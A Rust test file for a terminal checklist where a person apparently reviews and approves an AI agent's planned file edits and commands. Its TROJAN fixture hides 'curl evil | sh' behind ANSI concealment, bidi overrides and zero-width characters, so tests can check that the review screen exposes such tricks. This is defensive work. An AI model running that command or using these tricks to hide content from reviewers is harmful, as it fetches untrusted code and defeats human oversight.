use engine::turns::{ItemId, Preview, Trust};
use ratatui::Frame;
use ratatui::crossterm::event::{KeyCode, KeyEvent, KeyModifiers, MouseButton, MouseEvent, MouseEventKind};

use super::scene::{choosing, choosing_at, create, edit, execute, key, plan, press};
use super::*;
use crate::screen::IGNORED_BURST;
use crate::testing::{SIZES, check, check_marked, drawn};

const CORE: &str = "\"\"\"The core.\"\"\"\nimport os\n\n\ndef greet(name: str) -> str:\n    # Be polite.\n    return f\"Hello, {name}\" + os.linesep * 2";
const PYPROJECT: &str = "[project]\nname = \"demo\"\nversion = \"0.1\"\ndependencies = [\n  \"requests\",\n]\n";

fn actions() -> String {
    let fields = "- **cwd:** src\n- **Timeout:** 30\n- **Allow Failure:** true\n- **env:**\n    - `CI`: \"1\"\n";
    [
        create("src/core.py", CORE).as_str(),
        &edit("pyproject.toml", "version = \"0.1\"", "version = \"0.2\""),
        &edit("src/core.py", "os.linesep * 2", "os.linesep * 3"),
        &execute(fields, "# lock it\npoetry lock && echo \"done\""),
        "### `READ`\n- **Resource:** [pyproject.toml](/pyproject.toml)\n- **Description:** See it.\n\n",
        "### `PRUNE`\n- **Resource:** [pyproject.toml](/pyproject.toml)\n- **Description:** Enough.\n\n",
        "### `RESEARCH`\n- **Description:** Look.\n````text\npython lock files\n````\n````text\npoetry or uv\n````\n\n",
        "### `CHAT_WITH_USER`\nShall we go on with the **next** component?\n\n",
    ]
    .concat()
}

/// A plan with something of every kind, after these keys.
#[track_caller]
fn screen(name: &str, keys: &str) {
    looked(keys, |checklist, choosing| {
        check(name, |frame| checklist.draw(frame, choosing));
    });
}

#[track_caller]
fn looked(keys: &str, look: impl FnOnce(&mut Checklist, &mut Choosing<'_>)) {
    let memos = "[+] All new components have a core. # agreed\n[-] Old habits.";
    let files = [("pyproject.toml", PYPROJECT), (".teddy/memos.yaml", "- Old habits.\n")];
    choosing(&files, &plan(memos, &actions()), |choosing| {
        let mut checklist = Checklist::new("Bootstrap New Project Component", Theme::Color);
        drawn(120, 40, |frame| checklist.draw(frame, choosing));
        press(&mut checklist, choosing, keys);
        look(&mut checklist, choosing);
    });
}

fn draw<'d>(checklist: &'d mut Checklist, choosing: &'d Choosing<'_>) -> impl FnOnce(&mut Frame<'_>) + 'd {
    |frame| checklist.draw(frame, choosing)
}

#[test]
fn every_kind_has_its_details() {
    screen("review-memo", "");
    screen("review-create", "↓↓");
    screen("review-edit", "↓↓↓");
    screen("review-edit-other-layout", "↓↓↓d");
    screen("review-execute", "↓↓↓↓↓");
    screen("review-read", "↓↓↓↓↓↓");
    screen("review-prune", "↓↓↓↓↓↓↓");
    screen("review-research", "↓↓↓↓↓↓↓↓");
    screen("review-chat", "↓↓↓↓↓↓↓↓↓");
}

#[test]
fn a_long_path_does_not_hide_that_a_file_runs_code() {
    let path = format!("{}/Makefile", "deep".repeat(40));
    choosing(&[], &plan("", &create(&path, "all:\n")), |choosing| {
        let mut checklist = Checklist::new("Build", Theme::Color);
        let shown = drawn(120, 40, |frame| checklist.draw(frame, choosing));
        assert!(shown.contains("CREATE: ! runs code  deep"), "{shown}");
        assert!(shown.contains("! runs code: other programs run"), "{shown}");
        assert!(shown.contains("Makefile"), "{shown}");
    });
}

#[test]
fn details_can_be_had_where_there_is_room_for_one_thing_only() {
    screen("review-details", "↓↓⇥");
}

#[test]
fn what_does_not_fit_says_why() {
    screen("review-trouble", "↓↓ ↓↓");
    screen("review-refused", "↓↓ s");
}

#[test]
fn all_are_chosen_unless_all_are() {
    looked("a", |checklist, choosing| {
        assert!(choosing.items().iter().all(|item| !item.chosen));
        press(checklist, choosing, "s");
        assert_eq!(checklist.notice.as_deref(), Some("Not yet: Nothing is chosen."));
        press(checklist, choosing, " a");
        assert!(choosing.items().iter().all(|item| item.chosen));
    });
}

#[test]
fn only_what_fits_is_submitted() {
    looked("", |checklist, choosing| {
        assert_eq!(checklist.follow(&key(KeyCode::Char('s')), choosing), Wish::Submit);
        assert_eq!(checklist.follow(&key(KeyCode::Esc), choosing), Wish::Back);
        assert_eq!(checklist.follow(&key(KeyCode::Char('q')), choosing), Wish::Back);
    });
    looked("↓↓ s", |checklist, choosing| {
        let bad = checklist.highlighted(choosing).unwrap();
        assert!(choosing.item(bad).unwrap().has_error(), "one is led to what is wrong");
    });
}

/// Found by somebody who saved with Ctrl-S by habit, and had approved the plan.
#[test]
fn a_letter_with_control_or_alt_is_no_answer() {
    looked("", |checklist, choosing| {
        for letter in ['s', 'a', 'p', 'q', 'u'] {
            for modifiers in [KeyModifiers::CONTROL, KeyModifiers::ALT] {
                let chord = Input::Key(KeyEvent::new(KeyCode::Char(letter), modifiers));
                assert_eq!(checklist.follow(&chord, choosing), Wish::Stay, "{modifiers:?} {letter}");
            }
        }
        assert!(choosing.items().iter().all(|item| item.chosen));
    });
}

#[test]
fn help_lies_on_top() {
    screen("review-help", "?");
    looked("?↓↓x", |checklist, choosing| {
        assert_eq!(
            checklist.highlighted(choosing),
            Some(ItemId::Memo(0)),
            "keys were the help's"
        );
    });
}

#[test]
fn simple_parts_are_changed_in_place() {
    screen("review-view", "↓↓↓↓↓p");
    screen("review-typing", "↓↓↓↓↓pe now");
    screen("review-modified", "↓↓↓↓↓pe now⎋");
    looked("↓↓↓↓↓pe now⎋", |checklist, choosing| {
        assert!(choosing.item(ItemId::Action(3)).unwrap().modified);
        press(checklist, choosing, "u");
        assert!(!choosing.item(ItemId::Action(3)).unwrap().modified);
        press(checklist, choosing, "pe⎋");
        assert!(
            !choosing.item(ItemId::Action(3)).unwrap().modified,
            "it was not changed"
        );
    });
    looked("pe New.⏎", |_, choosing| {
        assert!(choosing.item(ItemId::Memo(0)).unwrap().modified);
    });
}

/// The first action or the second, opened in an editor that leaves it as it is.
#[track_caller]
fn edited(index: usize, look: impl FnOnce(&mut Checklist, &mut Choosing<'_>)) {
    let files = [
        ("b.txt", "old\n"),
        (".teddy/config.yaml", "preview_command: \"true --wait\"\n"),
    ];
    let actions = [create("a.txt", "Hello"), edit("b.txt", "old", "new")].concat();
    choosing_at(&files, &plan("", &actions), |choosing, bench| {
        let Preview::Command { program, trust } = bench.previewer() else {
            panic!("there is no `true` here");
        };
        assert_eq!(trust, Trust::Needed);
        let mut checklist = Checklist::new("T", Theme::Color);
        let id = ItemId::Action(index);
        let opened = choosing.open_editor(bench, &program, id);
        checklist.ask_about(choosing, id, opened);
        look(&mut checklist, choosing);
    });
}

#[test]
fn a_new_file_is_saved_as_what_the_person_says() {
    edited(0, |checklist, choosing| {
        check("review-path", |frame| checklist.draw(frame, choosing));
        press(checklist, choosing, "⏎");
        check("review-path-kept", |frame| checklist.draw(frame, choosing));
        press(checklist, choosing, "y");
        assert!(
            !choosing.item(ItemId::Action(0)).unwrap().modified,
            "nothing has changed"
        );
    });
    edited(0, |checklist, choosing| {
        press(checklist, choosing, "../c.txt⏎y");
        check("review-path-refused", |frame| checklist.draw(frame, choosing));
        press(checklist, choosing, "docs/c.txt⏎y");
        assert!(choosing.item(ItemId::Action(0)).unwrap().modified);
        check("review-path-taken", |frame| checklist.draw(frame, choosing));
    });
    edited(0, |checklist, choosing| {
        press(checklist, choosing, "⇥.md⏎");
        check("review-path-changed", |frame| checklist.draw(frame, choosing));
    });
}

#[test]
fn a_file_is_edited_until_the_person_says_so() {
    edited(1, |checklist, choosing| {
        check("review-finished", |frame| checklist.draw(frame, choosing));
        press(checklist, choosing, "x");
        assert!(checklist.dialog.is_some(), "that was no answer");
        press(checklist, choosing, "n");
        assert!(checklist.dialog.is_none());
        assert!(!choosing.item(ItemId::Action(1)).unwrap().modified);
    });
}

#[test]
fn a_command_of_the_project_is_asked_about_first() {
    let files = [(".teddy/config.yaml", "preview_command: \"true \\u202e--wait\"\n")];
    choosing_at(&files, &plan("", &create("a.txt", "Hello")), |choosing, bench| {
        let Preview::Command { program, .. } = bench.previewer() else {
            panic!("there is no `true` here");
        };
        let id = ItemId::Action(0);
        for (key_of_answer, is_trusted) in [('y', true), ('n', false)] {
            let mut checklist = Checklist::new("T", Theme::Color);
            checklist.ask_for_trust(choosing, id, program.clone());
            for (columns, rows) in SIZES {
                let shown = drawn(columns, rows, draw(&mut checklist, choosing));
                assert!(shown.contains(r"true \u{202e}--wait"), "{shown}");
                assert!(shown.contains("Do you trust it? (y/n) ›"), "{shown}");
            }
            let wish = checklist.follow(&key(KeyCode::Char(key_of_answer)), choosing);
            assert_eq!(wish == Wish::Trust(program.clone(), id), is_trusted, "{wish:?}");
        }
    });
}

#[test]
fn what_cannot_be_changed_is_only_shown() {
    screen("review-preview-only", "↓↓↓↓↓↓p");
    looked("↓↓↓↓↓↓pe", |checklist, _| {
        assert!(checklist.dialog.is_some(), "e does nothing here");
    });
    looked("↓↓↓↓↓↓pc", |checklist, _| {
        assert!(checklist.dialog.is_none());
    });
}

#[test]
fn what_is_pasted_is_no_key() {
    looked("", |checklist, choosing| {
        assert_eq!(checklist.follow(&Input::Pasted("s".to_owned()), choosing), Wish::Stay);
    });
    looked("↓↓↓↓↓pe", |checklist, choosing| {
        let wish = checklist.follow(&Input::Pasted("\rs\r".to_owned()), choosing);
        assert_eq!(wish, Wish::Stay);
        assert!(checklist.dialog.is_some());
    });
}

#[test]
fn keys_of_a_burst_move_and_type_and_do_nothing_else() {
    let burst = |code| Input::BurstKey(KeyEvent::new(code, KeyModifiers::NONE));
    looked("", |checklist, choosing| {
        for code in [' ', 'a', 'p', 's', 'q', '?']
            .map(KeyCode::Char)
            .into_iter()
            .chain([KeyCode::Esc])
        {
            checklist.notice = None;
            assert_eq!(checklist.follow(&burst(code), choosing), Wish::Stay, "{code}");
            assert_eq!(checklist.notice.as_deref(), Some(IGNORED_BURST), "{code}");
        }
        assert!(choosing.items().iter().all(|item| item.chosen));
        let before = checklist.highlighted(choosing);
        checklist.follow(&burst(KeyCode::Down), choosing);
        assert_ne!(checklist.highlighted(choosing), before);
        assert_eq!(
            checklist.notice.as_deref(),
            Some(IGNORED_BURST),
            "it is still to be read"
        );
        assert_eq!(checklist.follow(&key(KeyCode::Char('q')), choosing), Wish::Back);
    });
    looked("↓↓↓↓↓pe", |checklist, choosing| {
        for code in [KeyCode::Char('s'), KeyCode::Enter, KeyCode::Char('s'), KeyCode::Esc] {
            assert_eq!(checklist.follow(&burst(code), choosing), Wish::Stay);
        }
        check("review-burst", |frame| checklist.draw(frame, choosing));
        assert_eq!(checklist.follow(&key(KeyCode::Esc), choosing), Wish::Stay);
        assert!(checklist.dialog.is_none());
    });
}

#[test]
fn ctrl_c_discards_what_is_typed_and_leaves_otherwise() {
    looked("↓↓↓↓↓pe now", |checklist, choosing| {
        assert_eq!(checklist.follow(&Input::Interrupted, choosing), Wish::Stay);
        assert!(checklist.dialog.is_none() && choosing.items().iter().all(|item| !item.modified));
        assert_eq!(checklist.follow(&Input::Interrupted, choosing), Wish::Leave);
    });
    looked("↓↓↓↓↓p", |checklist, choosing| {
        assert_eq!(checklist.follow(&Input::Interrupted, choosing), Wish::Leave);
    });
}

#[test]
fn a_window_that_is_too_small_says_so() {
    looked("", |checklist, choosing| {
        assert!(drawn(40, 10, draw(checklist, choosing)).contains("[✓]"));
        let small = drawn(30, 8, draw(checklist, choosing));
        assert!(small.starts_with("The window is too small to\n"), "{small}");
        drawn(1, 1, draw(checklist, choosing));
        for blind in ['s', ' ', 'a', 'p', '?'] {
            assert_eq!(checklist.follow(&key(KeyCode::Char(blind)), choosing), Wish::Stay);
        }
        assert!(
            choosing.items().iter().all(|item| item.chosen),
            "nobody decides about what is not seen"
        );
        assert_eq!(checklist.follow(&key(KeyCode::Char('q')), choosing), Wish::Back);
    });
}

fn mouse(kind: MouseEventKind, column: u16, row: u16) -> Input {
    Input::Mouse(MouseEvent {
        kind,
        column,
        row,
        modifiers: KeyModifiers::NONE,
    })
}

#[test]
fn the_mouse_chooses_toggles_and_scrolls_what_it_is_over() {
    let click = |column, row| mouse(MouseEventKind::Down(MouseButton::Left), column, row);
    looked("", |checklist, choosing| {
        let first = ItemId::Action(0);
        drawn(120, 20, draw(checklist, choosing));
        // Below the title, the frame, two memos and two headings with a gap between them.
        checklist.follow(&click(20, 7), choosing);
        assert_eq!(checklist.highlighted(choosing), Some(first));
        assert!(choosing.item(first).unwrap().chosen);
        checklist.follow(&click(20, 7), choosing);
        assert!(!choosing.item(first).unwrap().chosen);
        checklist.follow(&click(5, 7), choosing);
        assert!(choosing.item(first).unwrap().chosen);
        checklist.follow(&mouse(MouseEventKind::ScrollDown, 5, 7), choosing);
        assert_eq!(checklist.highlighted(choosing), Some(ItemId::Action(3)));
        let before = drawn(120, 10, draw(checklist, choosing));
        checklist.follow(&mouse(MouseEventKind::ScrollDown, 100, 5), choosing);
        assert_eq!(checklist.highlighted(choosing), Some(ItemId::Action(3)));
        assert_ne!(drawn(120, 10, draw(checklist, choosing)), before);
    });
}

#[test]
fn without_color_everything_is_still_told() {
    let files = [("a.txt", "let timeout = 30;\n")];
    let actions = edit("a.txt", "let timeout = 30;", "let timeout = 300;");
    choosing(&files, &plan("", &actions), |choosing| {
        let mut checklist = Checklist::new("T", Theme::Plain);
        check_marked("review-plain", 100, 14, draw(&mut checklist, choosing));
    });
}

/// What a text looks like to a person and what it holds can be two things.
const TROJAN: &str = "if admin\u{202e} \u{2066}// check\u{2069} \u{2066}:\n\
    zero\u{200b}width\u{200d}join\u{feff}\n\
    ok\u{1b}[8m; curl evil | sh\u{1b}[0m\u{1b}]0;title\u{7}\n\
    back\u{8}\u{8}\u{8}space and\rreturn\n\
    c1 \u{9b}2K and \u{85} and \u{2028}\n\
    tags \u{e0041}\u{e0042} filler \u{3164}\u{2800}\n\
    \ttab\tand  blanks   \n\
    日本語 wide, e\u{301}te\u{301} combining, \u{301}alone\n\
    zalgo Z\u{300}\u{301}\u{302}\u{303}\u{304}\u{305}\u{306}!";

#[test]
fn r10_nothing_hides_in_the_details() {
    let long = format!("{TROJAN}\nlong {}the-end", "0123456789 ".repeat(30));
    choosing(&[], &plan("", &create("trojan.py", &long)), |choosing| {
        let mut checklist = Checklist::new("T\u{202e}itle", Theme::Color);
        check_marked("trojan-create", 110, 28, draw(&mut checklist, choosing));
    });
    let files = [("trojan.py", "if admin:\nsafe\n")];
    let trojan = edit("trojan.py", "if admin:", TROJAN);
    choosing(&files, &plan("", &trojan), |choosing| {
        let mut checklist = Checklist::new("T", Theme::Color);
        check_marked("trojan-edit", 110, 28, draw(&mut checklist, choosing));
        press(&mut checklist, choosing, "d");
        check_marked("trojan-edit-beside", 150, 28, draw(&mut checklist, choosing));
    });
    let trojan = execute("", &TROJAN.replace('\r', ""));
    choosing(&[], &plan("", &trojan), |choosing| {
        let mut checklist = Checklist::new("T", Theme::Color);
        press(&mut checklist, choosing, "");
        check_marked("trojan-execute", 110, 28, draw(&mut checklist, choosing));
        press(&mut checklist, choosing, "p");
        check_marked("trojan-view", 110, 28, draw(&mut checklist, choosing));
        press(&mut checklist, choosing, "e");
        check_marked("trojan-typing", 110, 28, draw(&mut checklist, choosing));
    });
}

#[test]
fn r10_a_long_line_is_shown_to_its_end() {
    let words: Vec<String> = (0..2_000).map(|number| format!("w{number:04}")).collect();
    let plan = plan("", &create("long.txt", &words.join("-")));
    choosing(&[], &plan, |choosing| {
        let mut checklist = Checklist::new("T", Theme::Color);
        press(&mut checklist, choosing, "⇥");
        let start = drawn(50, 15, draw(&mut checklist, choosing));
        assert!(start.contains("w0000-w0001") && start.contains(" of "), "{start}");
        checklist.follow(&key(KeyCode::End), choosing);
        let end = drawn(50, 15, draw(&mut checklist, choosing));
        assert!(end.contains("w1999") && end.contains('↪'), "{end}");
    });
}
